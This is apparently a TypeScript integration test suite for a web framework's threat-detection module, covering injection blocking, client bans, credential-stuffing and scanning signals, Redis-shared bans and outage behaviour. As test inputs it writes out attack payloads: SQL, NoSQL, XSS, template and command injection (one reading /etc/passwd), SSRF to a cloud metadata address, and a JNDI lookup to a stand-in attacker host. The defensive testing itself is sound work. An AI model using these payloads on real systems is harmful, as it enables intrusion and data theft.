import { Body, Controller, Get, HttpCode, Module, Post, Req } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import { Public } from '@rampart/auth';
import { getRequestContext, InvalidOptionsError, SecurityEvents, type SecurityEvent } from '@rampart/core';
import { BadRequestError, UnauthorizedError } from '@rampart/errors';
import { ThreatPolicy, ThreatService, useThreatDetection, type ThreatModuleOptions } from '@rampart/threat';
import { Redis } from 'ioredis';
import { connect, createServer, type AddressInfo } from 'node:net';
import request from 'supertest';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { bearer } from './utils/auth';
import { describeWithRedis, redisUrl, uniqueKeyPrefix } from './utils/redis';
import { PLATFORMS, startApp, type TestApp } from './utils/test-app';
import { loadConfig, type AppConfig } from '../apps/sample-api/src/app.config';
import type { Platform } from '../apps/sample-api/src/app.factory';

/** Routes of this suite: an echo, a route whose `codeSnippet` carries code, a login, a failing route. */
@Controller('test/threat')
@Public()
class ThreatProbeController {
  constructor(private readonly threat: ThreatService) {}

  @Post('echo')
  @HttpCode(200)
  echo(@Body() body: unknown): { ok: true; keys: string[] } {
    return { ok: true, keys: Object.keys(body ?? {}) };
  }

  @Get('echo')
  echoQuery(): { ok: true } {
    return { ok: true };
  }

  @ThreatPolicy({ ignore: ['body.codeSnippet'] })
  @Post('snippets')
  @HttpCode(200)
  snippet(@Body() _body: unknown): { ok: true } {
    return { ok: true };
  }

  @ThreatPolicy({ mode: 'monitor' })
  @Post('monitored')
  @HttpCode(200)
  monitored(@Body() _body: unknown): { ok: true } {
    return { ok: true };
  }

  @Post('login')
  async login(@Req() req: object, @Body() body: { account?: string }): Promise<never> {
    await this.threat.recordFailedLogin({ ip: getRequestContext(req).clientIp, account: String(body.account) });
    throw new UnauthorizedError('The username or password is wrong.');
  }

  @Get('fail')
  fail(): never {
    throw new BadRequestError('Always fails.');
  }
}

const SQLI = "1' UNION SELECT password FROM users--";

interface Booted extends TestApp {
  events: SecurityEvent[];
  threat: ThreatService;
}

const apps: Booted[] = [];

/** The prefixes this file wrote to Redis under: removed at the end, and no other run's. */
const redisPrefixes: string[] = [];

async function boot(
  platform: Platform,
  threat: ThreatModuleOptions,
  redis?: string,
  config: Partial<AppConfig> = {},
): Promise<Booted> {
  // A generous deadline: a busy test machine must not make a healthy Redis look down (the hung-Redis
  // test sets its own).
  const store = { deadlineMs: 500, ...threat.store };
  const keyPrefix = threat.keyPrefix ?? uniqueKeyPrefix('threat');
  if (redis) redisPrefixes.push(keyPrefix);
  const t = await startApp(platform, { threat: { ...threat, keyPrefix, store }, redisUrl: redis, ...config }, [
    ThreatProbeController,
  ]);
  const events: SecurityEvent[] = [];
  t.app.get(SecurityEvents).subscribe((event) => events.push(event));
  const booted = { ...t, events, threat: t.app.get(ThreatService) };
  apps.push(booted);
  return booted;
}

afterEach(async () => {
  await Promise.all(apps.splice(0).map((t) => t.close()));
});

/** Requests from distinct clients: the sample API trusts X-Forwarded-For from loopback. */
const from = (ip: string): Record<string, string> => ({ 'X-Forwarded-For': ip });

describe.each(PLATFORMS)('threat detection (%s)', (platform) => {
  describe('input inspection', () => {
    it('refuses an injection with 403 THREAT_DETECTED, without echoing it, and reports it', async () => {
      const t = await boot(platform, { mode: 'block' });
      const res = await request(t.server).get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`);
      expect(res.status).toBe(403);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body).toMatchObject({ code: 'THREAT_DETECTED', status: 403 });
      expect(res.text).not.toMatch(/union|password|select/i);
      const event = t.events.find((e) => e.type === 'threat.detected');
      expect(event).toMatchObject({ reason: 'malicious_input', clientIp: '127.0.0.1', route: 'GET /test/threat/echo' });
      expect(event?.details).toMatchObject({ decision: 'blocked', score: 70 });
      expect((event?.details?.findings as { location: string; category: string }[])[0]).toMatchObject({
        category: 'sqli',
        location: 'query.id',
      });
    });

    it.each([
      ['xss in a nested body field', { profile: { bio: '<img src=x onerror=alert(1)>' } }],
      ['NoSQL operator in a body', { username: 'admin', password: { $ne: null } }],
      ['a prototype-pollution path', { path: 'constructor.prototype.isAdmin', value: true }],
      ['SSRF to the metadata service', { webhookUrl: 'http://169.254.169.254/latest/meta-data/' }],
      ['template injection', { name: '{{7*7}}' }],
      ['command injection', { host: '127.0.0.1; cat /etc/passwd' }],
    ])('refuses %s', async (_name, body) => {
      const t = await boot(platform, { mode: 'block' });
      const res = await request(t.server).post('/test/threat/echo').send(body);
      expect(res.status).toBe(403);
      expect(res.body.code).toBe('THREAT_DETECTED');
    });

    it('refuses injections in headers and cookies', async () => {
      const t = await boot(platform, { mode: 'block' });
      const ua = await request(t.server).get('/test/threat/echo').set('User-Agent', '${jndi:ldap://evil.example/a}');
      expect(ua.status).toBe(403);
      const cookie = await request(t.server)
        .get('/test/threat/echo')
        .set('Cookie', `prefs=${encodeURIComponent(SQLI)}`);
      expect(cookie.status).toBe(403);
      // (A `__proto__` key in a JSON body is refused earlier, by the validation lib's parser.)
      expect((await request(t.server).get('/test/threat/echo?__proto__[isAdmin]=1')).status).toBe(403);
      expect((await request(t.server).get('/test/threat/echo?user[$ne]=x')).status).toBe(403);
    });

    it('lets realistic traffic with the tricky cases through', async () => {
      const t = await boot(platform, { mode: 'block' });
      const res = await request(t.server)
        .post('/test/threat/echo?q=please+update+my+card&sort=-price')
        .set(
          'User-Agent',
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0',
        )
        .send({
          name: "Conan O'Brien",
          note: 'Drop me a line; select the union rate -- thanks!',
          price: 'Only $19.99 (was $29.99)',
          file: 'report.v2.final.pdf',
          html: '<p>Hello <b>world</b> <a href="https://example.com">link</a></p>',
        });
      expect(res.status).toBe(200);
      expect(t.events.filter((e) => e.type === 'threat.detected')).toEqual([]);
    });

    it('skips the locations a route policy ignores, and only those', async () => {
      const t = await boot(platform, { mode: 'block' });
      const code = '<script>document.title = "x"</script>';
      expect((await request(t.server).post('/test/threat/snippets').send({ codeSnippet: code })).status).toBe(200);
      expect((await request(t.server).post('/test/threat/snippets').send({ title: code })).status).toBe(403);
      expect((await request(t.server).post('/test/threat/echo').send({ codeSnippet: code })).status).toBe(403);
    });

    it('in monitor mode (global or per route) lets the attack through and reports it', async () => {
      const t = await boot(platform, { mode: 'monitor' });
      expect((await request(t.server).get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)).status).toBe(200);
      const blocking = await boot(platform, { mode: 'block' });
      expect((await request(blocking.server).post('/test/threat/monitored').send({ q: SQLI })).status).toBe(200);
      for (const app of [t, blocking]) {
        expect(app.events.find((e) => e.type === 'threat.detected')?.details).toMatchObject({ decision: 'monitored' });
      }
    });

    it('redacts the sample of a secret-looking field in the event', async () => {
      const t = await boot(platform, { mode: 'block' });
      await request(t.server).post('/test/threat/echo').send({ password: SQLI });
      const findings = t.events.find((e) => e.type === 'threat.detected')?.details?.findings as { sample: string }[];
      expect(findings[0]?.sample).toBe('[REDACTED]');
      expect(JSON.stringify(t.events)).not.toContain('UNION');
    });
  });

  describe('ban mode (in memory)', () => {
    it('bans the attacking client until unbanned, and only that client', async () => {
      const t = await boot(platform, { mode: 'ban' });
      // A ban needs a sustained attack (banEvidence: 3 refused requests), not one request.
      for (let i = 0; i < 3; i++) {
        const attack = await request(t.server)
          .get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)
          .set(from('198.51.100.7'));
        expect(attack.status).toBe(403);
      }
      const banned = await request(t.server).get('/test/threat/echo').set(from('198.51.100.7'));
      expect(banned.status).toBe(403);
      expect(banned.body.code).toBe('THREAT_DETECTED');
      // Refused before routing, yet with the security headers every response carries.
      expect(banned.headers['x-frame-options']).toBe('DENY');
      expect(banned.headers['content-security-policy']).toContain("default-src 'none'");
      expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.8'))).status).toBe(200);
      expect(t.events.map((e) => e.type)).toContain('client.banned');
      expect(await t.threat.unban('198.51.100.7')).toBe(true);
      expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.7'))).status).toBe(200);
    });

    it('never bans a trusted client, but still refuses its malicious input', async () => {
      const t = await boot(platform, { mode: 'ban', trustedClients: ['203.0.113.0/24'] });
      expect(
        (
          await request(t.server)
            .get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)
            .set(from('203.0.113.9'))
        ).status,
      ).toBe(403);
      expect((await request(t.server).get('/test/threat/echo').set(from('203.0.113.9'))).status).toBe(200);
      expect(await t.threat.getBan('203.0.113.9')).toBeUndefined();
    });
  });

  describeBehaviour(platform, 'memory', undefined);

  describe('the admin unban route', () => {
    it('lets an admin lift a ban (204, then 404), and refuses non-admins and bad addresses', async () => {
      const t = await boot(platform, { mode: 'ban' });
      await t.threat.ban('198.51.100.80');
      expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.80'))).status).toBe(403);
      expect(
        (
          await request(t.server)
            .delete('/admin/bans/198.51.100.80')
            .set(await bearer(t.app, 'u-alice'))
        ).status,
      ).toBe(403);
      expect((await request(t.server).delete('/admin/bans/198.51.100.80')).status).toBe(401);
      const admin = await bearer(t.app, 'u-admin');
      expect((await request(t.server).delete('/admin/bans/not-an-ip').set(admin)).status).toBe(400);
      expect((await request(t.server).delete('/admin/bans/198.51.100.80').set(admin)).status).toBe(204);
      expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.80'))).status).toBe(200);
      expect((await request(t.server).delete('/admin/bans/198.51.100.80').set(admin)).status).toBe(404);
    });
  });

  describe("the sample's OAuth login form", () => {
    // Below the login throttle's 20 failures per IP: the threat signal acts first.
    const rateLimit = { ...loadConfig({}).rateLimit, keyPrefix: uniqueKeyPrefix('rl') };
    const failLogins = async (t: Booted, ip: string, count: number): Promise<number[]> => {
      const statuses: number[] = [];
      for (let i = 0; i < count; i++) {
        const res = await request(t.server)
          .post('/oauth/login')
          .set(from(ip))
          .type('form')
          .send({ username: `user${i}@example.com`, password: 'wrong' });
        statuses.push(res.status);
      }
      return statuses;
    };

    it('bans credential stuffing in ban mode: 11 failed logins from one IP across accounts', async () => {
      const t = await boot(platform, { mode: 'ban' }, undefined, { rateLimit });
      expect(await failLogins(t, '192.0.2.50', 11)).toEqual(Array(11).fill(401));
      const next = await request(t.server).get('/test/threat/echo').set(from('192.0.2.50'));
      expect(next.status).toBe(403);
      expect(next.body.code).toBe('THREAT_DETECTED');
      expect(await t.threat.getBan('192.0.2.50')).toMatchObject({ reasons: ['credential_stuffing'] });
      expect((await request(t.server).get('/test/threat/echo').set(from('192.0.2.51'))).status).toBe(200);
    });

    it('in the default monitor mode reports it once and refuses nothing', async () => {
      const t = await boot(platform, { mode: loadConfig({}).threat.mode }, undefined, { rateLimit });
      expect(await failLogins(t, '192.0.2.52', 12)).toEqual(Array(12).fill(401));
      const reported = t.events.filter((e) => e.reason === 'suspicious_behaviour' && e.clientIp === '192.0.2.52');
      expect(reported).toHaveLength(1);
      expect(reported[0]?.details).toMatchObject({ decision: 'monitored' });
      expect(await t.threat.getBan('192.0.2.52')).toBeUndefined();
    });
  });
});

/** The acceptance scenarios, on a given store. */
function describeBehaviour(platform: Platform, storeName: string, redis: string | undefined): void {
  describe(`behaviour signals (${storeName})`, () => {
    it('bans a scanner after 50 distinct endpoints (60 probed in a minute)', async () => {
      const t = await boot(platform, { mode: 'ban' }, redis);
      const scanner = from('192.0.2.10');
      const statuses: number[] = [];
      for (let i = 0; i < 60; i++)
        statuses.push((await request(t.server).get(`/probe-${i}/admin.php`).set(scanner)).status);
      expect(statuses.slice(0, 51).every((s) => s === 404)).toBe(true);
      // The ban lands once the batch holding the 51st response is flushed (store.observationFlushMs
      // after it) and its script has answered: the next requests after that are refused.
      await t.threat.flushObservations();
      expect((await request(t.server).get('/probe-60/admin.php').set(scanner)).status).toBe(403);
      expect((await request(t.server).get('/test/threat/echo').set(scanner)).status).toBe(403);
      const ban = await t.threat.getBan('192.0.2.10');
      expect(ban?.kind).toBe('ban');
      expect(ban?.reasons).toContain('scanning'); // and error_rate: a scanner's probes are 404s
      // One route template hit many times is not scanning: ids in paths do not count.
      const reader = from('192.0.2.11');
      for (let i = 0; i < 60; i++) await request(t.server).get(`/test/threat/echo?page=${i}`).set(reader);
      expect((await request(t.server).get('/test/threat/echo').set(reader)).status).toBe(200);
    });

    it('bans credential stuffing: 11 failed logins from one IP across accounts', async () => {
      const t = await boot(platform, { mode: 'ban' }, redis);
      const stuffer = from('192.0.2.20');
      for (let i = 0; i < 11; i++) {
        const res = await request(t.server)
          .post('/test/threat/login')
          .set(stuffer)
          .send({ account: `user${i}@example.com` });
        expect(res.status).toBe(401);
      }
      expect((await request(t.server).post('/test/threat/login').set(stuffer).send({ account: 'x' })).status).toBe(403);
      expect(await t.threat.getBan('192.0.2.20')).toMatchObject({ reasons: ['credential_stuffing'] });
    });

    it('reports password spraying on an account without banning the many IPs', async () => {
      const t = await boot(platform, { mode: 'ban' }, redis);
      for (let i = 0; i < 11; i++) {
        await request(t.server)
          .post('/test/threat/login')
          .set(from(`192.0.2.${100 + i}`))
          .send({ account: 'ceo@example.com' });
      }
      const verdict = await t.threat.recordFailedLogin({ ip: '192.0.2.200', account: 'ceo@example.com' });
      expect(verdict).toMatchObject({ passwordSpraying: true, credentialStuffing: false, action: 'none' });
      // More failures on the sprayed account: still one report for it in the window.
      for (let i = 0; i < 5; i++) {
        const again = await t.threat.recordFailedLogin({ ip: `192.0.2.${201 + i}`, account: 'ceo@example.com' });
        expect(again.passwordSpraying).toBe(true);
      }
      expect(t.events.filter((e) => e.reason === 'password_spraying')).toHaveLength(1);
      expect(await t.threat.getBan('192.0.2.100')).toBeUndefined();
    });

    it('bans an error storm at a high rate, but not errors below the minimum count or fast clean traffic', async () => {
      const behaviour = { requestRate: { limit: 30 }, errorRate: { minRequests: 20, ratio: 0.5 } };
      const t = await boot(platform, { mode: 'ban', behaviour }, redis);
      const storm = from('192.0.2.30');
      for (let i = 0; i < 15; i++) await request(t.server).get('/test/threat/fail').set(storm);
      await t.threat.flushObservations();
      expect(await t.threat.getBan('192.0.2.30')).toBeUndefined(); // 15 errors: under minRequests
      for (let i = 0; i < 20; i++) await request(t.server).get('/test/threat/fail').set(storm);
      await t.threat.flushObservations();
      expect(await t.threat.getBan('192.0.2.30')).toMatchObject({ reasons: ['request_rate', 'error_rate'] });
      expect((await request(t.server).get('/test/threat/echo').set(storm)).status).toBe(403);
      // Fast but clean: the rate signal alone (30) stays under the threshold (70).
      const fast = from('192.0.2.31');
      for (let i = 0; i < 40; i++) await request(t.server).get('/test/threat/echo').set(fast);
      await t.threat.flushObservations();
      expect((await request(t.server).get('/test/threat/echo').set(fast)).status).toBe(200);
    });

    it('in block mode refuses a scanner for the signal window, and in monitor mode only reports it', async () => {
      const blocking = await boot(platform, { mode: 'block', behaviour: { scanning: { limit: 5 } } }, redis);
      const monitoring = await boot(platform, { mode: 'monitor', behaviour: { scanning: { limit: 5 } } }, redis);
      for (const t of [blocking, monitoring]) {
        for (let i = 0; i < 7; i++) await request(t.server).get(`/nothing-${i}`).set(from('192.0.2.40'));
        await t.threat.flushObservations();
      }
      expect(await blocking.threat.getBan('192.0.2.40')).toMatchObject({ kind: 'block' });
      expect((await request(blocking.server).get('/test/threat/echo').set(from('192.0.2.40'))).status).toBe(403);
      expect((await request(monitoring.server).get('/test/threat/echo').set(from('192.0.2.40'))).status).toBe(200);
      const reported = monitoring.events.filter((e) => e.reason === 'suspicious_behaviour');
      expect(reported).toHaveLength(1); // once per client and outcome per minute, not once per request
      expect(reported[0]?.details).toMatchObject({ decision: 'monitored' });
    });
  });
}

describeWithRedis('threat detection with Redis', () => {
  const admin = new Redis(redisUrl);
  afterAll(async () => {
    // Only this run's keys: another run on the same Redis may be in the middle of its own tests.
    for (const prefix of redisPrefixes) {
      const keys = await admin.keys(`rampart:${prefix}*`);
      if (keys.length > 0) await admin.del(...keys);
    }
    await admin.quit();
  });

  describe.each(PLATFORMS)('%s', (platform) => {
    describeBehaviour(platform, 'redis', redisUrl);

    it('enforces a ban set by one instance on another within banCacheMs, and an unban by either', async () => {
      const keyPrefix = uniqueKeyPrefix('threat');
      const a = await boot(platform, { mode: 'ban', keyPrefix }, redisUrl);
      const b = await boot(platform, { mode: 'ban', keyPrefix }, redisUrl);
      const client = from('198.51.100.50');
      expect((await request(b.server).get('/test/threat/echo').set(client)).status).toBe(200);
      // A sustained attack spread over both instances: the evidence is counted in the shared store.
      for (const server of [a.server, b.server, a.server]) {
        expect((await request(server).post('/test/threat/echo').set(client).send({ q: SQLI })).status).toBe(403);
      }
      // The banning instance at once; the other once its cached "not banned" (≤ banCacheMs, 1 s) expires.
      expect((await request(a.server).get('/test/threat/echo').set(client)).status).toBe(403);
      const banned = Date.now();
      await expect
        .poll(async () => (await request(b.server).get('/test/threat/echo').set(client)).status, { timeout: 3_000 })
        .toBe(403);
      expect(Date.now() - banned).toBeLessThan(1_500);
      expect(await b.threat.unban('198.51.100.50')).toBe(true);
      expect((await request(b.server).get('/test/threat/echo').set(client)).status).toBe(200);
      await expect
        .poll(async () => (await request(a.server).get('/test/threat/echo').set(client)).status, { timeout: 3_000 })
        .toBe(200);
    });
  });

  describe.each(PLATFORMS)('when Redis hangs (%s)', (platform) => {
    it('answers within the deadline, skips the store during the outage, and recovers', async () => {
      // A proxy in front of the real Redis that holds traffic on demand: a hung server, which
      // answers what it was sent once it resumes.
      let frozen = false;
      const held: Array<() => void> = [];
      const relay = (write: () => void): void => {
        if (frozen) held.push(write);
        else write();
      };
      const target = new URL(redisUrl);
      const proxy = createServer((client) => {
        const upstream = connect(Number(target.port || 6379), target.hostname);
        client.on('data', (chunk) => relay(() => upstream.write(chunk)));
        upstream.on('data', (chunk) => relay(() => client.write(chunk)));
        client.on('close', () => upstream.destroy());
        client.on('error', () => upstream.destroy());
        upstream.on('error', () => client.destroy());
      });
      await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
      try {
        const { port } = proxy.address() as AddressInfo;
        // Observations are flushed by the test alone (the interval is longer than the test), so
        // what is in flight when it counts does not depend on how slow the machine is.
        const store = {
          deadlineMs: 150,
          cooldownMs: 1_500,
          banCacheMs: 0,
          maxPendingObservations: 5,
          observationFlushMs: 10_000,
        };
        const t = await boot(platform, { mode: 'ban', store }, `redis://127.0.0.1:${port}`);
        await t.threat.ban('198.51.100.60');
        expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.60'))).status).toBe(403);
        frozen = true;
        // Each request waits at most the deadline (the store's command timeout is 1 s); during the
        // cool-down the store is not asked at all. Fail open for clients this instance knows no ban
        // of; the ban it has seen stays enforced from memory until it ends.
        const durations: number[] = [];
        for (let i = 0; i < 10; i++) {
          const started = Date.now();
          const res = await request(t.server).get('/test/threat/echo').set(from('198.51.100.61'));
          durations.push(Date.now() - started);
          expect(res.status).toBe(200);
        }
        expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.60'))).status).toBe(403);
        // The bounds separate the behaviour from its failures with room for a loaded machine: a
        // request waiting for the hung store would take its 1 s command timeout; without the
        // breaker, each of the ten would wait the 150 ms deadline, ≥ 1 500 ms in all.
        expect(Math.max(...durations)).toBeLessThan(1_000);
        expect(durations.reduce((a, b) => a + b, 0)).toBeLessThan(10 * 150);
        // The held observations (two clients), sent now and not awaited (the store is frozen),
        // wait for its 1 s command timeout: in flight, at most maxPendingObservations.
        void t.threat.flushObservations();
        expect(t.threat.observationsInFlight).toBeGreaterThan(0);
        expect(t.threat.observationsInFlight).toBeLessThanOrEqual(5);
        // Many concurrent requests do not each wait either, and observations stay bounded. (Counted
        // later, the first ones may have timed out: the bound holds, not necessarily full.)
        const started = Date.now();
        const statuses = await Promise.all(
          Array.from({ length: 30 }, async (_, i) => (await request(t.server).get(`/x-${i}`)).status),
        );
        expect(statuses.every((s) => s === 404)).toBe(true);
        expect(Date.now() - started).toBeLessThan(1_000); // none waited for the command timeout
        void t.threat.flushObservations();
        expect(t.threat.observationsInFlight).toBeLessThanOrEqual(5);
        expect(t.logs.lines.filter((line) => line.includes('Threat store unavailable'))).toHaveLength(1);
        frozen = false;
        for (const write of held.splice(0)) write();
        // After the cool-down a probe finds the store again.
        await expect
          .poll(
            async () => {
              await request(t.server).get('/test/threat/echo').set(from('198.51.100.62'));
              return t.logs.lines.some((line) => line.includes('Threat store reachable again'));
            },
            { timeout: 5_000, interval: 100 },
          )
          .toBe(true);
        expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.60'))).status).toBe(403);
      } finally {
        proxy.close();
      }
    });
  });
});

describe('useThreatDetection without ThreatModule', () => {
  it('throws THREAT_INVALID_OPTIONS instead of ending the process', async () => {
    @Module({})
    class BareModule {}
    const app = await NestFactory.create(BareModule, { logger: false });
    try {
      expect(() => useThreatDetection(app)).toThrow(InvalidOptionsError);
      expect(() => useThreatDetection(app)).toThrow(/ThreatModule\.forRoot\(\)/);
    } finally {
      await app.close();
    }
  });
});

describe.each(PLATFORMS)('threat detection when the store is down (%s)', (platform) => {
  it('lets clean requests through (fail open) and still refuses injections', async () => {
    // Nothing listens on port 1: every store command fails fast.
    const t = await boot(platform, { mode: 'ban' }, 'redis://127.0.0.1:1');
    expect((await request(t.server).get('/test/threat/echo')).status).toBe(200);
    expect((await request(t.server).get(`/test/threat/echo?id=${encodeURIComponent(SQLI)}`)).status).toBe(403);
    // Another client (the attacker's ban holds on this instance for banCacheMs even without a store).
    expect((await request(t.server).get('/test/threat/echo').set(from('198.51.100.70'))).status).toBe(200);
    expect(t.logs.lines.filter((line) => line.includes('Threat store unavailable'))).toHaveLength(1);
  });
});
